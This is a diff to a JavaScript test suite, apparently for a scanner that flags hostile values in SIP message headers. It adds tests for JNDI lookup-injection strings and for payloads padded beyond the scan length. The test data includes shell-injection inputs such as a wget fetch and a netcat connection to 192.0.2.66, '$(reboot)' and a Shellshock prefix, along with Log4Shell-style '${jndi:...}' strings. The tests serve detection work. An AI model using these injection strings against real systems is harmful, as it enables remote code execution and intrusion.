@@ -81,7 +81,7 @@ describe('text for a shell, a path, a browser, a logger', () => {
       'a`id`',
       'x; wget http://192.0.2.66/a',
       'x | nc 192.0.2.66 4444',
-      'x && cat /tmp/a',
+      'x && cat /srv/a',
       '() { :;}; x',
       '$(reboot)',
       'x;sh;',
@@ -124,7 +124,7 @@ describe('text for a shell, a path, a browser, a logger', () => {
     ])
       assert.deepEqual(inAgent(agent), [], agent);
     assert.deepEqual(hostile('X-Braces', '{a} | ~b'), []);
-    assert.deepEqual(hostile('Subject', '/home/../x'), []);
+    assert.deepEqual(hostile('Subject', '/srv/../x'), []);
   });
 });
 
@@ -146,6 +146,24 @@ describe('conversions of printf', () => {
     ])
       assert.deepEqual(inAgent(text), [], text);
     assert.deepEqual(inUser('%d0%b0%d0%b1%d0%b2'), [], 'Cyrillic letters');
+  });
+});
+
+describe('values longer than is looked at', () => {
+  test('whatever stands where the look ends', () => {
+    for (const unit of ["'", "';", "'or", "'or ", '`', ';', '\x24{', '/*', '%', '%2', '%25', '%25%32', '%1\x24', "' or 1", ' ', '<']) {
+      for (let pad = 1010; pad < 1030; pad++) {
+        const value = `${'ab1 '.repeat(300).slice(0, pad)}${unit}${unit}tail`;
+        const m = read(request({ 'X-A': value, From: `"${value.replaceAll('"', '')}" <sip:a@b>;tag=1` }));
+        assert.ok(oddities(m).includes('header-long') || pad < 1024, `${unit} at ${pad}`);
+      }
+    }
+  });
+
+  test('one of many expressions is told', () => {
+    assert.deepEqual(hostile('X-A', '\x24{jndi:x}\x24{'.repeat(900)), ['lookup-injection']);
+    assert.deepEqual(hostile('X-A', '\x24{'.repeat(9)), ['lookup-injection']);
+    assert.deepEqual(hostile('X-A', `a \x24{%6andi:x}`), ['lookup-injection']);
   });
 });
 
